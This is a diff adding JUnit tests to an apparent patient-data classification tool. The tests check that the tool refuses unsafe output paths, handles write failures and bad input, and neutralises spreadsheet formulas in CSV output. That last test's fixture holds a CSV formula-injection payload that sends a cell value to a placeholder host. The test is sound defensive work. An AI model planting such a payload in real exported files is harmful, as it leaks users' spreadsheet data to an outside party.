@@ -172,4 +172,113 @@ class ClassifyErrorsTest {
         assertEquals("", r.out());
         assertFalse(Files.exists(out));
     }
+
+    // ------------------------------------------------------------------ --out that would destroy something
+
+    @Test
+    void outRefusesTheInputFile() throws IOException {
+        Path self = Files.copy(Path.of(fixture("good-patient.csv")), tmp.resolve("self.csv"));
+        byte[] before = Files.readAllBytes(self);
+        for (String target : List.of(self.toString(), tmp.resolve(".").resolve("self.csv").toString())) {
+            Run r = run("classify", self.toString(), "--ontology", ONTOLOGY, "--format", "csv", "--out", target);
+            assertEquals(2, r.code(), r.err());
+            assertTrue(r.err().contains("[io#out-is-input]"), r.err());
+            assertArrayEquals(before, Files.readAllBytes(self), "the input is intact");
+        }
+        // a hard link is the same file under another name
+        Path link = Files.createLink(tmp.resolve("link.csv"), self);
+        Run r = run("classify", self.toString(), "--ontology", ONTOLOGY, "--out", link.toString());
+        assertEquals(2, r.code(), r.err());
+        assertTrue(r.err().contains("[io#out-is-input]"), r.err());
+        assertArrayEquals(before, Files.readAllBytes(self));
+        assertEquals(List.of(link, self), listing(tmp), "no temporary file is left behind");
+    }
+
+    @Test
+    void outRefusesADirectoryADeviceAndASymlink() throws IOException {
+        Path dir = Files.createDirectory(tmp.resolve("answers"));
+        Run d = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--out", dir.toString());
+        assertEquals(2, d.code(), d.err());
+        assertTrue(d.err().contains("[io#out-not-a-file]"), d.err());
+        assertTrue(Files.isDirectory(dir));
+
+        Path device = Path.of("/dev/null");
+        if (Files.exists(device)) {
+            Run n = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--out", device.toString());
+            assertEquals(2, n.code(), n.err());
+            assertTrue(n.err().contains("[io#out-not-a-file]"), n.err());
+            assertFalse(Files.isRegularFile(device, java.nio.file.LinkOption.NOFOLLOW_LINKS), "/dev/null is still a device");
+        }
+
+        Path target = Files.writeString(tmp.resolve("target.json"), "keep me");
+        Path link = Files.createSymbolicLink(tmp.resolve("link.json"), target);
+        Run l = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--format", "json", "--out", link.toString());
+        assertEquals(2, l.code(), l.err());
+        assertTrue(l.err().contains("[io#out-not-a-file]"), l.err());
+        assertTrue(Files.isSymbolicLink(link), "the link is still a link");
+        assertEquals("keep me", Files.readString(target));
+    }
+
+    @Test
+    void aWriteFailureIsAnIoErrorNotADataError() throws IOException {
+        Path file = Files.writeString(tmp.resolve("plain.txt"), "x");
+        Run r = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--out", file.resolve("answers.json").toString());
+        assertEquals(1, r.code(), r.err());
+        assertTrue(r.err().contains("[io#write-failed]"), r.err());
+        assertFalse(r.err().contains("data#"), r.err());
+    }
+
+    @Test
+    void aFullDiskIsAWriteFailureAndLeavesNothing() throws IOException {
+        Path out = tmp.resolve("answers.json");
+        var e = org.junit.jupiter.api.Assertions.assertThrows(org.mcrckg.report.OutputException.class,
+                () -> org.mcrckg.report.AtomicFile.write(out, List.of(), o -> {
+                    o.write("partial".getBytes(StandardCharsets.UTF_8));
+                    throw new IOException("No space left on device");
+                }));
+        assertEquals("io#write-failed", e.errorId());
+        assertTrue(e.getMessage().contains("No space left on device"), e.getMessage());
+        assertEquals(List.of(), listing(tmp), "no partial or temporary file");
+    }
+
+    // ------------------------------------------------------------------ inputs that exhausted the machine or crashed it
+
+    @Test
+    void aHugeExponentIsADataError() {
+        Run r = run("classify", fixture("huge-exponent.json"), "--ontology", ONTOLOGY);
+        assertEquals(2, r.code(), r.err());
+        assertTrue(r.err().contains("huge-exponent.json:1 $[0].cea_ng_ml: field cea_ng_ml"), r.err());
+        assertTrue(r.err().contains("[data#too-long]"), r.err());
+    }
+
+    @Test
+    void aControlCharacterInAnIdIsADataErrorAndLoadDoesNotTouchTheStore() {
+        Run r = run("classify", fixture("control-character-id.csv"), "--ontology", ONTOLOGY);
+        assertEquals(2, r.code(), r.err());
+        assertTrue(r.err().contains("control-character-id.csv:3: field patient_id"), r.err());
+        assertTrue(r.err().contains("[data#bad-character]"), r.err());
+        assertFalse(r.err().contains("\u0007"), "no raw control character on the terminal");
+        Path store = tmp.resolve("store");
+        Run load = run("load", "--store", store.toString(), fixture("control-character-id.csv"), "--ontology", ONTOLOGY);
+        assertEquals(2, load.code(), load.err());
+        assertTrue(load.err().contains("[data#bad-character]"), load.err());
+        assertFalse(Files.exists(store), "the store was not created");
+    }
+
+    @Test
+    void csvOutputNeutralisesSpreadsheetFormulas() throws IOException {
+        Path in = Files.writeString(tmp.resolve("formulas.csv"),
+                "patient_id,ecog\n\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\",0\n+1,0\n-2,0\n@SUM(A1),0\nV01,0\n", StandardCharsets.UTF_8);
+        Run r = run("classify", in.toString(), "--ontology", ONTOLOGY, "--format", "csv");
+        assertEquals(0, r.code(), r.err());
+        var rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new java.io.StringReader(r.out())).getRecords();
+        java.util.Set<String> ids = new java.util.TreeSet<>();
+        rows.forEach(row -> ids.add(row.get("patient_id")));
+        assertEquals(new java.util.TreeSet<>(List.of("'=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "'@SUM(A1)", "+1", "-2", "V01")), ids,
+                "formulas get a quote; a plain number is not a formula");
+        // JSON keeps the id as it is
+        Run json = run("classify", in.toString(), "--ontology", ONTOLOGY, "--format", "json");
+        assertTrue(json.out().contains("\"id\" : \"=HYPERLINK("), json.out());
+    }
 }
